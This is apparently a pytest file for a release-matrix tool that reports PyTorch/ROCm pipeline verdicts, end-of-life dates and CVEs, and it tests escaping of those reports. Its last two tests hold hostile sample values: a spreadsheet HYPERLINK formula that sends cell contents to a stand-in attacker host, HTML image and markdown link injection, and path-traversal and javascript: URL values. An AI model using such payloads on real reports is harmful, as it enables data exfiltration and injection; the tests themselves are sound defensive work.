from __future__ import annotations

import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from gatekeeper import cli
from gatekeeper.history import BaselineStore, RunInfo
from gatekeeper.release.matrix import build_matrix
from gatekeeper.release.releases import find_release, lifecycle, load_matrix_file, version_key
from gatekeeper.report.matrix_page import write_matrix
from tests.support.release_history import STORES, day, environment, pipeline, record

ROOT = Path(__file__).resolve().parents[2]
TODAY = dt.date(2026, 12, 2)


def _store(directory: Path, kind: str = "sqlite") -> BaselineStore:
    store = STORES[kind](directory)
    runs = [
        ("2.5.1+rocm6.2", "6.2.4", "gfx90a", "stable", "pass", 1),
        ("2.5.1+rocm6.2", "6.2.4", "gfx90a", "stable", "blocked", 3),  # newer: this one is the cell
        ("2.5.1+rocm6.2", "6.2.4", "gfx942:sramecc+:xnack-", "stable", "warn", 2),
        ("2.9.0.dev20251101+rocm6.4", "6.4.1", "gfx942", "nightly", "pass", 4),
        ("2.6.0+rocm6.2", "6.2.4", "gfx906", "stable", None, 5),  # no verdict recorded
    ]
    for torch, rocm, arch, channel, verdict, n in runs:
        reports = pipeline(environment(torch=torch, rocm=rocm, arch=arch, channel=channel), started_at=day(n))
        if verdict is None:
            for r in reports:
                store.save(r, RunInfo(commit="f00ba4", recorded_at=r.started_at))
        else:
            record(store, reports, verdict=verdict, pipeline_id=str(100 + n))
    return store


def test_sample_matrix_yaml_is_valid_and_marked_as_example() -> None:
    spec = load_matrix_file(ROOT / "matrix.yaml")
    assert spec.torch
    assert spec.rocm
    assert "EXAMPLE DATA" in (ROOT / "matrix.yaml").read_text()
    assert any(c.id == "CVE-2025-32434" for r in spec.torch for c in r.cves)


def test_version_matching_and_lifecycle() -> None:
    spec = load_matrix_file(ROOT / "matrix.yaml")
    assert version_key("2.6.0.dev20241201+rocm6.2") == (2, 6, 0)
    assert find_release("2.5.1+rocm6.2", spec.torch).version == "2.5"
    assert find_release("6.2.4", spec.rocm).version == "6.2"
    assert find_release("3.0.0", spec.torch) is None
    life = lifecycle("2.5.1+rocm6.2", spec.torch, TODAY, 90)
    assert life.past_eol
    assert [c.id for c in life.cves] == ["CVE-2025-32434"]
    assert not lifecycle("2.5.1", spec.torch, dt.date(2025, 1, 1), 30).past_eol
    assert lifecycle("2.5.1", spec.torch, dt.date(2025, 4, 1), 30).eol_soon


@pytest.mark.parametrize("kind", sorted(STORES))
def test_matrix_cells_are_latest_verdicts_with_date_and_link(tmp_path: Path, kind: str) -> None:
    spec = load_matrix_file(ROOT / "matrix.yaml")
    m = build_matrix(_store(tmp_path / "hist", kind), spec, today=TODAY)
    rows = [(r.torch, r.channel) for r in m.rows]
    assert rows[0] == ("2.9.0.dev20251101+rocm6.4", "nightly")
    cols = [c.label for c in m.columns]
    assert "ROCm 6.2.4 · gfx90a" in cols
    assert "ROCm 6.2.4 · gfx942" in cols  # feature suffixes of the gfx name are not a new column
    i = rows.index(("2.5.1+rocm6.2", "stable"))
    cell = m.cells[(i, cols.index("ROCm 6.2.4 · gfx90a"))]
    assert (cell.verdict, cell.date, cell.pipeline_id) == ("blocked", day(3)[:10], "103")
    assert cell.link == "https://gitlab.example.com/ml/model-repo/-/pipelines/103"
    # no verdict recorded: the stage statuses stand in, and say so
    j = rows.index(("2.6.0+rocm6.2", "stable"))
    stage_cell = m.cells[(j, cols.index("ROCm 6.2.4 · gfx906"))]
    assert stage_cell.verdict == "failed"
    assert not stage_cell.from_verdict
    assert stage_cell.link is None  # the link template needs a pipeline id
    assert m.columns[cols.index("ROCm 6.2.4 · gfx906")].arch_past_eol


def test_write_matrix_outputs(tmp_path: Path) -> None:
    _store(tmp_path / "hist")  # read back through --history, as the command does
    history = f"sqlite:{tmp_path / 'hist' / 'history.db'}"
    paths = write_matrix(history=history, matrix_file=ROOT / "matrix.yaml", out=tmp_path, today=TODAY)
    assert sorted(p.name for p in paths) == ["matrix.csv", "matrix.html", "matrix.md"]
    md = (tmp_path / "matrix.md").read_text()
    assert "| 2.5.1+rocm6.2 (stable) ⚠ past EOL since 2025-04-23, CVE-2025-32434 |" in md
    assert "⛔ blocked 2026-11-03 [#103](https://gitlab.example.com/ml/model-repo/-/pipelines/103)" in md
    assert "❌ failed* 2026-11-05" in md
    html = (tmp_path / "matrix.html").read_text()
    assert '<a href="https://gitlab.example.com/ml/model-repo/-/pipelines/103">#103</a>' in html
    assert "gfx906 past EOL since 2024-06-30" in html
    rows = list(csv.DictReader(io.StringIO((tmp_path / "matrix.csv").read_text())))
    assert len(rows) == 4  # five runs, two of them in one cell
    row = next(r for r in rows if r["arch"] == "gfx90a")
    assert row["verdict"] == "blocked"
    assert row["torch_past_eol"] == "true"
    assert row["torch_cves"] == "CVE-2025-32434"
    assert row["rocm_eol"] == "2025-04-11"


def test_matrix_without_history_lists_releases(tmp_path: Path) -> None:
    argv = ["matrix", "--matrix-file", str(ROOT / "matrix.yaml"), "--out", str(tmp_path)]
    assert cli.main(argv) == 0
    md = (tmp_path / "matrix.md").read_text()
    assert "no --history store given" in md
    assert "| torch 2.5 | 2024-10-17 | 2025-04-23 | past EOL | CVE-2025-32434 (fixed in 2.6.0) |" in md


def test_matrix_from_file_store_history(tmp_path: Path) -> None:
    from tests.support.release_history import write_pipeline

    hist = write_pipeline(tmp_path / "hist", pipeline(environment(), started_at=day(7)))
    out = tmp_path / "out"
    assert (
        cli.main(["matrix", "--history", str(hist), "--matrix-file", str(ROOT / "matrix.yaml"), "--out", str(out)]) == 0
    )
    # a FileStore keeps no verdict: the stage statuses stand in (functional_test failed one check)
    assert "❌ failed* 2026-11-07" in (out / "matrix.md").read_text()


@pytest.mark.parametrize(
    ("text", "expect"),
    [
        (
            "version: 1\ntorch:\n  - version: 2.5\n",
            r"matrix\.yaml:3:14: torch\[0\]\.version: 2\.5 is not of type 'string'",
        ),
        (
            "version: 1\nrocm:\n  - version: '6.2'\n    eol: 2025-13-01\n",
            r"matrix\.yaml:4:10: invalid value '2025-13-01': month must be in 1..12",
        ),
        (
            "version: 1\ntorch:\n  - version: '2.5'\n    eoll: 2025-01-01\n",
            r"matrix\.yaml:3:5: torch\[0\]: Additional properties",
        ),
        (
            "version: 1\ntorch:\n  - version: '2.5'\n    cves:\n      - id: CVE-25\n        summary: x\n",
            r"matrix\.yaml:5:13: .*cves\[0\]\.id",
        ),
        ("version: 1\ntorch: [\n", r"matrix\.yaml:\d+:\d+: invalid YAML"),
    ],
)
def test_bad_matrix_file_is_one_line_with_position(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], text: str, expect: str
) -> None:
    f = tmp_path / "matrix.yaml"
    f.write_text(text)
    out = tmp_path / "out"
    assert cli.main(["matrix", "--matrix-file", str(f), "--out", str(out)]) == 2
    err = capsys.readouterr().err.strip()
    assert len(err.splitlines()) == 1, err
    assert re.search(expect, err), err
    assert not out.exists()


def test_docs_show_every_matrix_yaml_key() -> None:
    from gatekeeper.contract.schemas import load_schema

    schema = load_schema("gatekeeper.matrix/v1")
    docs = (ROOT / "docs" / "release.md").read_text()
    keys = set(schema["properties"])
    for name in ("release", "cve", "arch"):
        keys |= set(schema["$defs"][name]["properties"])
    missing = sorted(k for k in keys if f"{k}:" not in docs)
    assert missing == []


def test_a_records_strings_are_escaped_in_every_matrix_output(tmp_path: Path) -> None:
    # 2026-12-04 audit: matrix.md wrote a record's torch version, verdict and pipeline id as they were (only "|"
    # escaped): HTML, an image that loads a remote URL when the page renders, links and @all; matrix.csv wrote a
    # cell starting with "=", which a spreadsheet runs as a formula (HYPERLINK sends other cells away).
    from gatekeeper.history import open_store

    hostile = '=HYPERLINK("https://evil.invalid/?"&B2,"x") <img src=https://evil.invalid/p.png> [l](https://evil.invalid) @all'
    store = open_store(f"sqlite:{tmp_path / 'h.db'}", create=True)
    for r in pipeline(environment(torch=hostile), started_at=day(1)):
        store.save(r, RunInfo("main", "+c", "-1](https://evil.invalid)", "@all", r.started_at))
    write_matrix(history=f"sqlite:{tmp_path / 'h.db'}", matrix_file=ROOT / "matrix.yaml", out=tmp_path, today=TODAY)
    md = (tmp_path / "matrix.md").read_text(encoding="utf-8")
    assert "<img" not in md, md
    assert "](https://evil.invalid" not in md, md
    assert not re.search(r"@all", md), md  # a mention is broken by a zero-width space
    assert "&lt;img" in md
    assert "\\[l\\]" in md
    cells = [c for row in csv.reader(io.StringIO((tmp_path / "matrix.csv").read_text(encoding="utf-8"))) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    assert "'" + hostile in cells
    assert "'@all" in cells
    assert "'-1](https://evil.invalid)" in cells


_HOSTILE_RUN = {
    "pipeline_id": "7/../../admin?x=1#top",
    "commit": "javascript:alert(1) /../",
    "ref": "feature x/../../../admin?q=#frag",
}
_PAGE = "https://gitlab.example.com/ml/model-repo/-/"


@pytest.mark.parametrize(
    ("template", "expected"),
    [
        (_PAGE + "pipelines/{pipeline_id}", _PAGE + "pipelines/7%2F..%2F..%2Fadmin%3Fx%3D1%23top"),
        (
            _PAGE + "commit/{commit}?ref={ref}",
            _PAGE + "commit/javascript%3Aalert%281%29%20%2F..%2F?ref=feature%20x%2F..%2F..%2F..%2Fadmin%3Fq%3D%23frag",
        ),
        ("{commit}", None),  # a quoted javascript: is no http(s) URL: never an href
    ],
)
def test_report_url_quotes_each_value_it_fills_in(tmp_path: Path, template: str, expected: str | None) -> None:
    """2026-12-04 audit, second pass: matrix.yaml's report_url filled a record's values in as they were; a
    pipeline id ``7/../../admin?x=1#top`` left the pipelines page and set the query and the fragment, a space
    broke the link. Each value is URL-quoted whole (no ``/``, ``?``, ``#``, ``:`` or space of its own
    survives); the pages keep escape.html_url / md_url on the result."""
    from gatekeeper.history import open_store

    matrix = (ROOT / "matrix.yaml").read_text(encoding="utf-8")
    matrix = re.sub(r"(?m)^report_url:.*$", f"report_url: {template!r}", matrix)
    (tmp_path / "matrix.yaml").write_text(matrix, encoding="utf-8")
    store = open_store(f"sqlite:{tmp_path / 'h.db'}", create=True)
    run = _HOSTILE_RUN
    for r in pipeline(environment(), started_at=day(1)):
        store.save(r, RunInfo(run["ref"], run["commit"], run["pipeline_id"], "pass", r.started_at))
    [cell] = build_matrix(store, load_matrix_file(tmp_path / "matrix.yaml"), today=TODAY).cells.values()
    if expected is not None:
        assert cell.link == expected
    write_matrix(history=f"sqlite:{tmp_path / 'h.db'}", matrix_file=tmp_path / "matrix.yaml", out=tmp_path, today=TODAY)
    hrefs = re.findall(r'<a href="([^"]*)"', (tmp_path / "matrix.html").read_text(encoding="utf-8"))
    links = re.findall(r"\]\((\S*)\)", (tmp_path / "matrix.md").read_text(encoding="utf-8"))
    assert hrefs == ([expected] if expected else [])  # quoted, it holds nothing html_url escapes
    assert links == ([expected] if expected else [])
